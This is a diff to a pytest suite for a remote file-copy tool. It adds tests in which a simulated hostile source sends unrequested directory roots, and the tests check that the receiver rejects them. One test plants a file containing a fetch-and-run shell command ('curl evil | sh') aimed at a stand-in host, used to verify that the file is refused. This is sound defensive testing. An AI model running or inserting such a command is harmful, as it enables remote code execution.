@@ -58,10 +58,15 @@ class HostileSource:
             assert kind == Msg.PEER_CONNECTED
 
     def receive(self, dest: Path, sources: int = 1, overwrite: bool = False,
-                rules: list[tuple[str, str]] | None = None) -> None:
-        """`rules`: what each operand lets the source call its root (default: any visible name)."""
+                rules: list[tuple[str, str]] | None = None, wildcards: list[bool] | None = None) -> None:
+        """`rules`: what each operand lets the source call its root (default: any visible name);
+        `wildcards`: which operands may have several roots (default: left out, as an older master
+        does, which lets only "glob" ones)."""
         flat = [part for rule in (rules or [("any", "")] * sources) for part in rule]
-        self.ctl.send(Msg.RECEIVE, [str(dest), sources, False, overwrite, flat])
+        fields = [str(dest), sources, False, overwrite, flat]
+        if wildcards is not None:
+            fields += [False, False, bytes(wildcards)]
+        self.ctl.send(Msg.RECEIVE, fields)
 
     # The destination may hang up on us mid-script (that is a pass, judged
     # by outcome()): sends after that are dropped.
@@ -272,6 +277,42 @@ def test_an_honest_wildcard_expansion_is_copied(world, hostile: HostileSource) -
     kind, fields = outcome = hostile.outcome()
     assert kind == "result" and fields[0] == 3 and fields[5] == 0, outcome
     assert sorted(p.name for p in dest.iterdir()) == ["a.txt", "b.txt", "report.pdf"]
+
+
+def test_an_honest_wildcard_expansion_is_copied_when_the_master_marks_it(world, hostile: HostileSource) -> None:
+    """`host:'d*/x'`: a plain last name, but a wildcard before it, so several roots."""
+    dest, _ = world
+    hostile.receive(dest, sources=1, rules=[("name", "x")], wildcards=[True])
+    for index in range(2):
+        hostile.send(Msg.ROOT, [index, "x", "d", "", 0, 2])
+        hostile.send(Msg.DIR, [index, "", 0o755, 1_600_000_000, 0])
+        hostile.stream(record(f"from{index}", b"x", root=index, file_id=index))
+    hostile.send(Msg.DONE, [2, 2])
+    kind, fields = outcome = hostile.outcome()
+    assert kind == "result" and fields[0] == 2 and fields[5] == 0, outcome
+    assert sorted(p.name for p in (dest / "x").iterdir()) == ["from0", "from1"]
+
+
+@pytest.mark.parametrize("wildcards", [None, [False]])
+@pytest.mark.parametrize("rule, second", [
+    (("any", ""), "Documents"),      # rcp evil: .  ->  one root, not a handful of chosen names
+    (("name", "data"), "data"),      # rcp evil:data .  ->  "data" once
+])
+def test_an_operand_without_a_wildcard_has_one_root(world, hostile: HostileSource, rule: tuple[str, str],
+                                                    second: str, wildcards: list[bool] | None) -> None:
+    dest, _ = world
+    hostile.receive(dest, rules=[rule], wildcards=wildcards)
+    hostile.send(Msg.ROOT, [0, "data", "d", "", 0, 2])
+    hostile.send(Msg.DIR, [0, "", 0o755, 1_600_000_000, 0])
+    hostile.send(Msg.ROOT, [1, second, "d", "", 0, 2])
+    hostile.send(Msg.DIR, [1, "", 0o755, 1_600_000_000, 0])
+    hostile.stream(record("planted", b"curl evil | sh\n", root=1, file_id=1))
+    hostile.send(Msg.DONE, [1, 15])
+    outcome = hostile.outcome()
+    assert outcome[0] == "error", outcome
+    assert "source misbehaved" in errors_of(outcome) and "holds no wildcard" in errors_of(outcome), outcome
+    assert not (dest / second / "planted").exists()
+    assert sorted(p.name for p in dest.iterdir()) in ([], ["data"])
 
 
 @pytest.mark.parametrize("name, operand", [
